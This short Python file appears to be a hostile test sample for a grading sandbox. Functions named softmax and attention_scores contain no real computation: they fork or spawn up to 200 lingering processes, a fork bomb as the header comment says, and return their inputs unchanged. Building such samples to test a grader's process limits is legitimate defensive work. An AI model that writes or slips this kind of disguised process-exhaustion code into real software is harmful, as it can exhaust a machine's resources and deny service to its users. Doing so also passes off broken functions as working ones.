# ruff: noqa
# attacked: softmax attention_scores
# A fork bomb, through os.fork and os.posix_spawn (never run outside the grader).
import os
import time


def softmax(x, dim=-1):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1)
        except OSError:
            break
    return x


def attention_scores(q, k):
    for _ in range(200):
        try:
            os.posix_spawn("/bin/sleep", ["sleep", "60"], {})
        except OSError:
            break
    return q
